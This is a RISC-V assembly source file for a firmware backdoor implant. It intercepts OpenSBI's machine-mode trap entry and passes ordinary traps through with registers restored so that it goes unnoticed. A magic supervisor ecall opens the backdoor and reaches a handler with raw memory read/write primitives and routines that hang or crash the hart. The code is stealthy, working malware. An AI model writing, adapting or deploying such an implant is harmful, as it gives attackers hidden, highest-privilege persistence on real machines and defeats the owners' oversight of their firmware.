/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Trap entry of a firmware with a back door. To go unnoticed, it passes all but
 * magic calls to the firmware's own handler, with all registers restored.
 *
 * OpenSBI's handler begins by swapping tp with mscratch, which points to this
 * hart's scratch area, and saving t0 into a slot (SLOT) of that area. This code
 * does the same and undoes it. tools/implant finds SLOT and the handlers.
 */
#include "door.h"
#include "try.h"

#define MCAUSE_ECALL_S	9
#define MPRV		(1 << 17)

	.macro	door real
	.balign	4
	csrrw	tp, mscratch, tp
	sd	t0, SLOT(tp)
	li	t0, DOOR_EID
	bne	t0, a7, 1f
	csrr	t0, mcause
	addi	t0, t0, -MCAUSE_ECALL_S
	bnez	t0, 1f
	bnez	a6, 1f			/* DOOR_FID */
	srli	t0, a0, DOOR_SHIFT
	addi	t0, t0, -DOOR_MAGIC
	beqz	t0, open
1:	ld	t0, SLOT(tp)
	csrrw	tp, mscratch, tp
	j	\real
	.endm

	.section .entry, "ax"
	.globl	_start
_start:
	j	door_0
	.balign	8
	j	door_1
door_0:
	door	real_0
door_1:
	door	real_1

	.balign	8
	.globl	door_value, door_high
door_value:
	.quad	0
door_high:
	.quad	0

	.macro	for_x op
	.irp	n, 1,3,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29,30,31
	\op	x\n, \n * 8(sp)
	.endr
	.endm

	/*
	 * The caller is in S-mode, so the stack below the scratch area is free.
	 */
open:
	sd	sp, -256 + 16(tp)
	addi	sp, tp, -256
	for_x	sd
	ld	t0, SLOT(tp)
	sd	t0, 5 * 8(sp)
	csrrw	t0, mscratch, tp
	sd	t0, 4 * 8(sp)
	csrr	s0, mstatus
	csrr	s1, mepc
	addi	s1, s1, 4
	mv	a0, sp
	call	door_call		/* a0: the pc to continue at, or 0 */
	beqz	a0, 2f
	mv	s1, a0
2:	csrw	mstatus, s0
	csrw	mepc, s1
	for_x	ld
	ld	tp, 4 * 8(sp)
	ld	t0, 5 * 8(sp)
	ld	sp, 2 * 8(sp)
	mret

	TRY	door_try

	.globl	door_ld, door_sw, door_lbu, door_sb
door_ld:
	ld	a0, 0(a0)
	ret
door_sw:
	sw	a1, 0(a0)
	ret
door_lbu:
	lbu	a0, 0(a0)
	ret
door_sb:
	sb	a1, 0(a0)
	ret

	.globl	door_loop, door_sleep, door_crash
door_loop:
	j	door_loop
door_sleep:
	csrw	mie, zero
4:	wfi
	j	4b
door_crash:
	jr	zero
